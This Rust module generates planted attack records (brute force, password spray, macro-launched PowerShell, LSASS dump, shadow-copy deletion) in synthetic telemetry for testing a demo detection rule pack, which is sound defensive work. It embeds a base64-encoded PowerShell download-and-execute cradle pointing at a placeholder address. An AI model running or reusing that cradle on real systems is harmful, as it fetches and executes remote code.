//! The planted attack scenarios: what happens, when, where, and which rule of the demo pack
//! must find it.
//!
//! The scenarios tell one story. An attacker brute-forces the remote desktop host and sprays
//! passwords at Entra ID; a macro document lands on WKS-0004, starts encoded PowerShell, drops an
//! implant that persists through a Run key, beacons to its command-and-control server and dumps
//! LSASS; with the administrator account won on the remote desktop host the attacker then
//! stages a tool on the file server, schedules it, and deletes the shadow copies. Times are fixed
//! offsets from the day `end_nanos` falls on, all within its last seven days, and the records do
//! not depend on the seed or on the number of events.

mod access;
mod intrusion;

use crate::demo::benign::process::process_record;
use crate::demo::clock::{DAY, HOUR, MINUTE};
use crate::demo::fields::{device_header, initiating, Fields, Proc};
use crate::demo::rules::C2_IP;
use crate::demo::world::{Device, World};
use crate::record::Record;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;

/// A planted attack scenario and the rule that must detect it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Scenario {
    /// Stable identifier, e.g. `lsass-dump`.
    pub id: &'static str,
    /// One-line description.
    pub title: &'static str,
    /// MITRE ATT&CK technique ids.
    pub techniques: &'static [&'static str],
    /// The `id:` of the demo rule that must detect it.
    pub rule_id: &'static str,
    /// The host it happens on, or `""`.
    pub device: &'static str,
    /// The account involved, or `""`.
    pub account: &'static str,
    /// The tables its records go to.
    pub tables: &'static [&'static str],
}

/// Every planted scenario, in the order they happen.
pub(crate) const SCENARIOS: &[Scenario] = &[
    Scenario {
        id: "rdp-brute-force",
        title: "RDP brute force from the internet succeeds against an administrator account",
        techniques: &["T1110.001"],
        rule_id: "9e176302-aabe-445b-af5d-b66b6276ef98",
        device: "RDS01.contoso.local",
        account: "adm-morgan",
        tables: &["SecurityEvent", "DeviceLogonEvents"],
    },
    Scenario {
        id: "password-spray",
        title: "Password spray against Entra ID from one address",
        techniques: &["T1110.003"],
        rule_id: "e343a317-b26f-4391-9a5a-9079d5055aa9",
        device: "",
        account: "",
        tables: &["SigninLogs"],
    },
    Scenario {
        id: "office-macro",
        title: "Macro document from e-mail starts encoded PowerShell",
        techniques: &["T1566.001", "T1059.001"],
        rule_id: "efb95ad7-330f-4e13-ab53-0650f0b80439",
        device: "WKS-0004.contoso.local",
        account: "dana",
        tables: &[
            "DeviceFileEvents",
            "DeviceProcessEvents",
            "DeviceNetworkEvents",
        ],
    },
    Scenario {
        id: "run-key",
        title: "Run key starts an executable from the roaming profile",
        techniques: &["T1547.001"],
        rule_id: "22a8f100-ddea-498a-9eae-588f1b3c2b6a",
        device: "WKS-0004.contoso.local",
        account: "dana",
        tables: &["DeviceRegistryEvents"],
    },
    Scenario {
        id: "c2-beacon",
        title: "Implant beacons to its command-and-control server every five minutes",
        techniques: &["T1071.001"],
        rule_id: "615d70fd-6eda-47a3-a90f-89046f7c9c7f",
        device: "WKS-0004.contoso.local",
        account: "dana",
        tables: &["DeviceNetworkEvents"],
    },
    Scenario {
        id: "lsass-dump",
        title: "LSASS memory dumped with comsvcs.dll MiniDump",
        techniques: &["T1003.001"],
        rule_id: "158ff6b1-1ba2-4fb6-8e52-587498655a60",
        device: "WKS-0004.contoso.local",
        account: "dana",
        tables: &["DeviceProcessEvents", "DeviceFileEvents"],
    },
    Scenario {
        id: "certutil-download",
        title: "certutil downloads a tool onto the file server",
        techniques: &["T1105"],
        rule_id: "35c06f36-a7d8-44d9-a362-7b270a186254",
        device: "FS01.contoso.local",
        account: "adm-morgan",
        tables: &[
            "DeviceProcessEvents",
            "DeviceNetworkEvents",
            "DeviceFileEvents",
            "SecurityEvent",
        ],
    },
    Scenario {
        id: "scheduled-task",
        title: "Scheduled task runs the staged tool from ProgramData at start-up",
        techniques: &["T1053.005"],
        rule_id: "ce5bec7b-e53e-41c3-a845-1170ce1e5b03",
        device: "FS01.contoso.local",
        account: "adm-morgan",
        tables: &["DeviceProcessEvents", "DeviceEvents"],
    },
    Scenario {
        id: "inhibit-recovery",
        title: "Shadow copies deleted and recovery disabled before encryption",
        techniques: &["T1490"],
        rule_id: "52aedc63-287a-4151-82c5-ce440fa1d9c9",
        device: "FS01.contoso.local",
        account: "adm-morgan",
        tables: &["DeviceProcessEvents"],
    },
];

/// The address the RDP brute force comes from.
pub(crate) const BRUTE_FORCE_IP: &str = "192.0.2.45";
/// The address the password spray comes from.
pub(crate) const SPRAY_IP: &str = "192.0.2.187";
/// The encoded PowerShell the macro runs: `IEX (New-Object Net.WebClient).DownloadString(...)`.
pub(crate) const ENCODED: &str = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3ADcALwBhACcAKQA=";

/// Collects the planted records.
pub(crate) struct Planter<'w> {
    world: &'w World,
    rng: ChaCha8Rng,
    out: Vec<(i64, Record)>,
}

impl<'w> Planter<'w> {
    /// Adds `record`, happening at `time`.
    pub(crate) fn push(&mut self, time: i64, record: Record) {
        self.out.push((time, record));
    }

    /// Adds the start of `child` by `parent` on `device`.
    pub(crate) fn process(
        &mut self,
        time: i64,
        device: &Device,
        parent: &Proc<'_>,
        child: &Proc<'_>,
    ) {
        let record = process_record(self.world, time, 0, device, parent, child).into_record();
        self.push(time, record);
    }

    /// Adds a successful outbound connection of `proc` on `device` to `ip`:`port` (`url`).
    pub(crate) fn connect(
        &mut self,
        time: i64,
        device: &Device,
        proc: &Proc<'_>,
        ip: &str,
        port: i64,
        url: &str,
    ) {
        let mut f = Fields::new("DeviceNetworkEvents");
        device_header(&mut f, time, device, 0);
        f.text("ActionType", "ConnectionSuccess")
            .text("RemoteIP", ip)
            .long("RemotePort", port)
            .text("RemoteUrl", url)
            .text("RemoteIPType", "Public")
            .text("LocalIP", device.ip.as_str())
            .long("LocalPort", self.rng.random_range(49_152..65_535))
            .text("Protocol", "Tcp");
        initiating(&mut f, self.world, proc);
        self.push(time, f.into_record());
    }

    /// Adds the creation of the file at `path` by `proc` on `device`, downloaded from `origin`
    /// if that is not empty.
    pub(crate) fn file(
        &mut self,
        time: i64,
        device: &Device,
        proc: &Proc<'_>,
        path: &str,
        size: i64,
        origin: &str,
    ) {
        let name = path.rsplit('\\').next().unwrap_or(path);
        let mut f = Fields::new("DeviceFileEvents");
        device_header(&mut f, time, device, 0);
        f.text("ActionType", "FileCreated")
            .text("FileName", name)
            .text("FolderPath", path)
            .text("SHA256", crate::demo::world::hex_digest(path, 32))
            .long("FileSize", size);
        if !origin.is_empty() {
            f.text("FileOriginUrl", origin).text("FileOriginIP", C2_IP);
        }
        initiating(&mut f, self.world, proc);
        self.push(time, f.into_record());
    }
}

/// The planted records for `world`, in time order.
pub(crate) fn planted(world: &World, end_nanos: i64) -> Vec<(i64, Record)> {
    let day = end_nanos.div_euclid(DAY) * DAY;
    let mut planter = Planter {
        world,
        rng: ChaCha8Rng::seed_from_u64(0x5eed_0fa7_7ac4),
        out: Vec::with_capacity(512),
    };
    if let (Some(rds), Some(admin)) = (world.device("RDS01"), world.user("adm-morgan")) {
        access::brute_force(
            &mut planter,
            day - 6 * DAY + 2 * HOUR + 13 * MINUTE,
            rds,
            admin,
        );
    }
    access::password_spray(&mut planter, day - 5 * DAY + 3 * HOUR + 40 * MINUTE);
    if let (Some(ws), Some(dana)) = (world.device("WKS-0004"), world.user("dana")) {
        intrusion::workstation_intrusion(
            &mut planter,
            day - 4 * DAY + 9 * HOUR + 41 * MINUTE,
            ws,
            dana,
        );
    }
    if let (Some(fs), Some(rds), Some(admin)) = (
        world.device("FS01"),
        world.device("RDS01"),
        world.user("adm-morgan"),
    ) {
        intrusion::file_server_intrusion(
            &mut planter,
            day - 2 * DAY + 22 * HOUR + 14 * MINUTE,
            fs,
            rds,
            admin,
        );
    }
    let mut out = planter.out;
    out.sort_by_key(|(time, _)| *time);
    out
}
